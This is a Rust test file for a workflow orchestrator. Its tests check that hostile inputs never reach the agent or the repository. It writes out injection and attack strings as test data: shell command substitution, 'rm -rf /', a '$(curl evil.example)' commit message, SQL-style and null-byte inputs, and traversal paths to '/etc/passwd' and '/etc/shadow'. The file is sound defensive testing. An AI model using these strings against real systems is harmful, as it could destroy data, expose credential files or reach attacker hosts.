//! End-to-end checks that hostile input is stopped at the validation
//! boundary: the agent is never invoked and no collaborator command runs.

use std::sync::Arc;
use std::time::Duration;

use camino::Utf8PathBuf;
use tempfile::TempDir;

use devflow::{Config, DevflowError, Orchestrator, StartOptions};
use devflow_agent::{AgentGateway, ScriptedBackend, TierMap, TranscriptWriter};
use devflow_engine::{PhaseExecutor, RawArg};
use devflow_state::StateStore;
use devflow_utils::types::{Phase, RunId};
use devflow_validation::{InputKind, ValidationContext};
use devflow_vcs::{RecordingRepository, RecordingTracker};

fn test_config(dir: &TempDir) -> Config {
    let mut config = Config::default();
    config.workflow.state_dir = Utf8PathBuf::from_path_buf(dir.path().join("runs")).unwrap();
    config
}

#[tokio::test]
async fn malformed_issue_id_stops_before_any_delegation() {
    let dir = TempDir::new().unwrap();
    let backend = Arc::new(ScriptedBackend::new());
    let repository = Arc::new(RecordingRepository::new());
    let tracker = Arc::new(RecordingTracker::new());
    let orchestrator = Orchestrator::new(
        test_config(&dir),
        backend.clone(),
        repository.clone(),
        tracker.clone(),
    );

    for hostile in ["1 OR 1=1", "42; rm -rf /", "-1", "$(id)"] {
        let err = orchestrator
            .start(StartOptions {
                issue: Some(hostile.to_string()),
                ..StartOptions::default()
            })
            .await
            .unwrap_err();
        assert!(matches!(err, DevflowError::Validation(_)), "accepted {hostile}");
    }

    assert_eq!(backend.invocation_count(), 0);
    assert!(repository.calls().is_empty());
    assert!(tracker.calls().is_empty());
}

#[tokio::test]
async fn rejected_phase_argument_never_reaches_the_agent() {
    let dir = TempDir::new().unwrap();
    let state_dir = Utf8PathBuf::from_path_buf(dir.path().to_path_buf()).unwrap();
    let backend = Arc::new(ScriptedBackend::new());
    let gateway = AgentGateway::new(
        backend.clone(),
        TierMap::default(),
        Duration::from_secs(5),
        TranscriptWriter::new(state_dir.join("RUN-AB12")),
    );
    let executor = PhaseExecutor::new(
        Arc::new(gateway),
        ValidationContext {
            allowed_path_roots: vec!["src".into()],
            allowed_commands: vec!["git".into()],
        },
    );
    let store = StateStore::new(state_dir);
    let mut run = store.create(RunId::new("RUN-AB12").unwrap(), None).unwrap();

    let hostile_args = [
        RawArg::new(InputKind::BranchName, "feature/../../etc"),
        RawArg::new(InputKind::BranchName, "main"),
        RawArg::new(InputKind::FilePath, "/etc/passwd"),
        RawArg::new(InputKind::FilePath, "src/../../../etc/shadow"),
        RawArg::new(InputKind::CommitMessage, "feat: $(curl evil.example)"),
        RawArg::new(InputKind::CommandName, "rm"),
        RawArg::new(InputKind::Prompt, "payload\0smuggled"),
    ];

    for arg in hostile_args {
        let err = executor
            .run_checkpointed(&store, &mut run, Phase::Build, std::slice::from_ref(&arg))
            .await
            .unwrap_err();
        let DevflowError::Validation(v) = err else {
            panic!("expected a validation error for {arg:?}");
        };
        // The redacted copy never carries the raw control bytes onward.
        assert!(!v.rejected_value.contains('\0'));
    }

    assert_eq!(backend.invocation_count(), 0);
    assert_eq!(store.load(run.run_id()).unwrap().checkpoints().count(), 0);
}

#[test]
fn traversal_branch_is_rejected_with_the_branch_field() {
    let err = devflow_validation::validate_branch_name("feature/../../etc").unwrap_err();
    assert_eq!(err.field, "branch_name");
}
